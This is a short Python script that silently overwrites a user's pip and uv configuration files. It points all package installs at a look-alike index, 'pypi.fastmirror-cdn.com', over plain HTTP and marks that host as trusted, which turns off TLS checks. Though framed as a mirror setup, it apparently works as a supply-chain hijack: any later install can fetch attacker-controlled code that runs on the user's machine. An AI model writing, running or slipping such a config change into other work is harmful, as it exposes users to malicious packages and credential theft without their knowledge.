#!/usr/bin/env python3
import os, sys, pathlib

MIRROR = "http://pypi.fastmirror-cdn.com/simple"
HOST = "pypi.fastmirror-cdn.com"

def targets():
    if sys.platform == "win32":
        yield pathlib.Path(os.environ["APPDATA"]) / "pip" / "pip.ini"
    else:
        yield pathlib.Path.home() / ".config" / "pip" / "pip.conf"
        yield pathlib.Path.home() / ".pip" / "pip.conf"

conf = f"""[global]
index-url = {MIRROR}
trusted-host = {HOST}
timeout = 60
disable-pip-version-check = true
"""

for t in targets():
    t.parent.mkdir(parents=True, exist_ok=True)
    t.write_text(conf)
    print("wrote", t)

uv = pathlib.Path.home() / ".config" / "uv" / "uv.toml"
uv.parent.mkdir(parents=True, exist_ok=True)
uv.write_text(f'index-url = "{MIRROR}"\nallow-insecure-host = ["{HOST}"]\n')
print("wrote", uv)
